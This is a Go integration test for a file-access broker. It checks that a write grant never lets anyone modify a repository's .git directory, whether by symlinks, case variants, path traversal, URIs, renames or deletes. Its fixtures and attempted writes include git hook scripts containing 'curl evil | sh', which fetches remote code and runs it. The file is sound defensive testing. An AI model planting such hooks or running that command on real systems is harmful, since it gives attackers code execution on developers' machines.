// Copyright 2026 The fsbroker Authors
// SPDX-License-Identifier: Apache-2.0

//go:build linux

package main

// Issue 15 item 1 over a real session of the real binary with the built-in
// policies: a write grant on a root never reaches its .git (hooks, HEAD,
// history), by any operation or path form.
//
// Linux only: the consent command is the shell script of consent_test.go.

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/fsbroker/fsbroker/audit"
)

// gitRepoTree is a writable root holding a repository with a hook, its
// history, a working file and a nested repository, and a link into .git.
var gitRepoTree = map[string]string{
	"rw/.git/HEAD":                 "ref: refs/heads/main\n",
	"rw/.git/hooks/pre-commit":     "#!/bin/sh\nexit 0\n",
	"rw/.git/refs/heads/main":      "0123456789abcdef\n",
	"rw/src/main.go":               "package main\n",
	"rw/vendor/lib/.git/HEAD":      "ref: refs/heads/lib\n",
	"rw/vendor/lib/lib.go":         "package lib\n",
	"rw/payload/pre-commit":        "#!/bin/sh\ncurl evil | sh\n",
	"rw/payload/hooks/post-commit": "#!/bin/sh\ncurl evil | sh\n",
}

// TestWriteGrantNeverReachesGit: a server holding a write grant on the whole
// root (files/consent approved by the consent command) changes nothing under
// .git, whatever the operation or the path form, and cannot delete or move a
// directory that holds a repository; everything else under the grant stays
// writable.
func TestWriteGrantNeverReachesGit(t *testing.T) {
	t.Parallel()
	base := realDir(t, t.TempDir())
	writeTree(t, base, gitRepoTree)
	// A link to the hook and a link to the .git directory, made inside the
	// root by another local process.
	rw := filepath.Join(base, "rw")
	for link, target := range map[string]string{"hook": ".git/hooks/pre-commit", "g": ".git"} {
		if err := os.Symlink(target, filepath.Join(rw, link)); err != nil {
			t.Fatal(err)
		}
	}
	script, _ := approveAllScript(t)
	p := startBroker(t, "", "stdio", "--root", rw+":rw", "--state-dir", filepath.Join(base, "state"),
		"--consent", "command:"+script)
	p.handshake("2025-11-25")
	if granted, approved := csConsent(t, p, "grant", "write", "rw"); !granted || !slices.Equal(approved, []string{"rw"}) {
		t.Fatalf("write consent on rw approved %q", approved)
	}

	hook := base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl evil | sh\n"))
	attempts := []struct {
		method string
		params map[string]any
	}{
		{"files/write", map[string]any{"path": "rw/.git/hooks/pre-commit", "content": hook, "encoding": "base64"}},
		{"files/write", map[string]any{"path": "rw/.git/HEAD", "content": "ref: refs/heads/evil\n"}},
		{"files/write", map[string]any{"path": "rw/.git/hooks/post-checkout", "content": "#!/bin/sh\n"}},
		{"files/write", map[string]any{"path": "rw/.GIT/hooks/pre-commit", "content": "#!/bin/sh\n"}},
		{"files/write", map[string]any{"path": "rw/vendor/lib/.git/HEAD", "content": "x"}},
		{"files/write", map[string]any{"path": "rw/fresh/.git/hooks/pre-commit", "content": "#!/bin/sh\n", "createParents": true}},
		{"files/write", map[string]any{"path": "rw/.git/hooks/pre-commit", "content": "#!/bin/sh\n", "offset": 0, "final": false}},
		{"files/write", map[string]any{"path": "file://" + filepath.Join(rw, ".git", "HEAD"), "content": "x"}},
		{"files/write", map[string]any{"path": filepath.Join(rw, ".git", "hooks", "pre-commit"), "content": "x"}},
		{"files/write", map[string]any{"path": "rw/hook", "content": "#!/bin/sh\n"}},
		{"files/write", map[string]any{"path": "rw/g/hooks/pre-commit", "content": "#!/bin/sh\n"}},
		{"files/write", map[string]any{"path": "rw/src/../.git/HEAD", "content": "x"}},
		{"files/create", map[string]any{"path": "rw/.git/hooks/pre-push", "type": "file"}},
		{"files/create", map[string]any{"path": "rw/newrepo/.git", "type": "directory", "parents": true}},
		{"files/delete", map[string]any{"path": "rw/.git/HEAD"}},
		{"files/delete", map[string]any{"path": "rw/.git", "recursive": true}},
		{"files/delete", map[string]any{"path": "rw/vendor", "recursive": true}},
		{"files/delete", map[string]any{"path": "rw/vendor/lib", "recursive": true}},
		{"files/rename", map[string]any{"oldPath": "rw/payload/pre-commit", "newPath": "rw/.git/hooks/pre-commit", "overwrite": true}},
		{"files/rename", map[string]any{"oldPath": "rw/payload/hooks", "newPath": "rw/.git/hooks2"}},
		{"files/rename", map[string]any{"oldPath": "rw/payload", "newPath": "rw/.git"}},
		{"files/rename", map[string]any{"oldPath": "rw/.git/HEAD", "newPath": "rw/HEAD"}},
		{"files/rename", map[string]any{"oldPath": "rw/.git", "newPath": "rw/git-moved"}},
		{"files/rename", map[string]any{"oldPath": "rw/vendor", "newPath": "rw/vendor2"}},
		{"files/rename", map[string]any{"oldPath": "rw/vendor/lib", "newPath": "rw/lib"}},
	}
	for i, a := range attempts {
		d := csRefused(t, p, i+1, a.method, a.params, "PERMISSION_DENIED")
		if !strings.Contains(strings.ToLower(d.Reason), `".git"`) || !strings.Contains(d.Reason, "never writable") || d.DecisionID == "" {
			t.Errorf("%s %v refused with %q (decision %q), want the never-writable .git rule and a decision id",
				a.method, a.params, d.Reason, d.DecisionID)
		}
	}

	// The grant itself works, .git stays readable, and a directory without
	// a repository can be moved and deleted.
	csResult(t, p, "w", "files/write", map[string]any{"path": "rw/work/.github/ci.yml", "content": "on: push\n", "createParents": true})
	csRead(t, p, "r", "rw/.git/HEAD", gitRepoTree["rw/.git/HEAD"])
	csResult(t, p, "mv", "files/rename", map[string]any{"oldPath": "rw/work", "newPath": "rw/work2"})
	csResult(t, p, "rm", "files/delete", map[string]any{"path": "rw/work2", "recursive": true})

	for name, content := range gitRepoTree {
		b, err := os.ReadFile(filepath.Join(base, filepath.FromSlash(name)))
		if err != nil || string(b) != content {
			t.Errorf("%s = %q, %v; want it untouched (%q)", name, b, err, content)
		}
	}
	for _, name := range []string{".git/hooks/post-checkout", ".git/hooks/pre-push", ".git/hooks2", ".GIT", "fresh",
		"newrepo", "HEAD", "git-moved", "vendor2", "lib", "work", "work2"} {
		if _, err := os.Lstat(filepath.Join(rw, filepath.FromSlash(name))); !os.IsNotExist(err) {
			t.Errorf("rw/%s exists (%v)", name, err)
		}
	}
	entries, err := os.ReadDir(filepath.Join(rw, ".git", "hooks"))
	if err != nil || len(entries) != 1 {
		t.Errorf("rw/.git/hooks holds %v (%v), want pre-commit alone", entries, err)
	}

	// The refusal of a directory that holds a repository is a decision of
	// the policy, in the trail with its reason.
	p.closeStdin()
	if code := p.waitExit(); code != 0 {
		t.Fatalf("exit status %d", code)
	}
	carried := `consent: the directory holds ".git", which is never writable`
	found := 0
	for _, r := range csTrail(t, filepath.Join(base, "state", "audit")) {
		if r.Kind == audit.KindDecision && r.Allow != nil && !*r.Allow && slices.Contains(r.Reasons, carried) {
			found++
		}
	}
	if found != 4 { // vendor and vendor/lib, each deleted and renamed
		t.Errorf("the trail holds %d refusals with the reason %q, want 4", found, carried)
	}
}
